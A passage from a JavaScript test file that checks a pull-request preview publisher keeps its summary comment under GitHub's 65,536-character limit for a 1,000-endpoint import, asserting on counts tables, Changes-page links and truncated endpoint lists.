  it('a first import of 1,000 items: the comment stays under 65,536 characters with the counts and the Changes page as the full report', async () => {
    const { origin, push } = await world();
    const head = await push(9, endpoints(1_000), 'acme/orders');
    // The build job is the cases above; here its artifact as it leaves it (a built site, the number).
    const artifact = join(scratch, 'artifact-9');
    await mkdir(join(artifact, 'site', 'changes'), { recursive: true });
    await writeFile(join(artifact, 'site', 'index.html'), '<p>preview</p>\n');
    await writeFile(join(artifact, 'site', 'changes', 'index.html'), '<p>changes</p>\n');
    await writeFile(join(artifact, 'pr.json'), '{"number":9}\n');
    const published = await privileged(origin, 9, head, artifact, 'acme/orders');
    expect(failures(published)).toEqual([]);
    const body = github.comments.find((c) => c.pr === 9)?.body ?? '';
    expect([...body].length).toBeLessThan(65_536);
    expect(body).toContain('| Endpoints | 0 | 5000 | 1000 | 0 | 0 | 0 | 0 |');
    expect(body).toContain(`**Preview:** [the Changes page](<${PAGES}pr-9/changes/>)`);
    expect(body).toContain(`[the full report](<${PAGES}pr-9/changes/>) has every line`);
    expect(body).toMatch(/^- Added \[`endpoints\/get-thing-\d+`\]\(<https:\/\/acme\.github\.io\/orders\/pr-9\/endpoints\/get-thing-\d+\/>\)$/m);
    expect(body).toMatch(/^- … and \d+ more in the full report, linked above\.$/m);
  }, 240_000);
});
